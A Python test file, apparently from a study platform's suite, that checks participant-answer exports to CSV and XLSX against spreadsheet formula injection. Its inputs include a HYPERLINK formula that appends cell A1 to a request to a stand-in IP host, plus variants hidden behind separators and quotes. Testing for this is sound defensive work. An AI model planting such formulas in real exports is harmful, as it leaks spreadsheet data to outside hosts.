"""Answers with formulas, for the spreadsheet in which a researcher opens the export.

Spreadsheets differ in what they take for the separator of a CSV file, by the country that they are
set to; a cell may begin, for them, in the middle of one of ours.

SPDX-License-Identifier: Apache-2.0
"""

import io
import re

import httpx
import pytest
from openpyxl import load_workbook

from tests.attack.aim import Instance
from tests.made_up import Participant, put_recordings, sign_in, study_definition
from thinlab.study import catalogue

REMARKS = {"kind": "text", "id": "remarks", "text": "Remarks?", "when": "before", "required": False}
LINK = '=HYPERLINK("http://192.0.2.1/"&A1)'
ANSWERS = [
    LINK,
    f"nice; {LINK}",
    f"nice\t{LINK}",
    f"nice\r\n{LINK}",
    f"nice|{LINK}",
    f'"nice";{LINK}',
    "nice;@SUM(1)\n+1\t-1",
    f"\t{LINK}",
]


@pytest.mark.parametrize("answer", ANSWERS, ids=ascii)
async def test_formulas_in_a_remark(answer: str, own: Instance, visitor: httpx.AsyncClient) -> None:
    assert own.inside is not None
    async with own.inside.database.transaction() as session:
        await catalogue.load(session, study_definition(questionnaire=[REMARKS]))
    await put_recordings(own.inside, own.study)
    somebody = await Participant.join(visitor, own.study)
    body = {"answers": {"remarks": answer}}
    given = await visitor.post("/api/participation/answers", headers=somebody.headers, json=body)
    assert given.status_code == httpx.codes.OK, given.text
    await sign_in(visitor, own.inside)
    at = f"/api/researcher/studies/{own.study}/participants"
    text = (await visitor.get(f"{at}.csv")).text
    assert "nice" in text or "HYPERLINK" in text
    # With any separator, and with quotes that a spreadsheet may not take for such.
    for cell in re.split(r'[;|\t\r\n]|,(?=")|","', text):
        assert not re.match(r'[\s"]*[=+\-@]', cell), cell
    book = load_workbook(io.BytesIO((await visitor.get(f"{at}.xlsx")).content))
    cells = [cell for row in book.worksheets[0].iter_rows() for cell in row]
    assert {cell.data_type for cell in cells} <= {"s", "n", "b", "d"}
    assert answer.replace("\r\n", "\n") in [
        str(cell.value).replace("\r\n", "\n").replace("_x000D_", "") for cell in cells
    ]
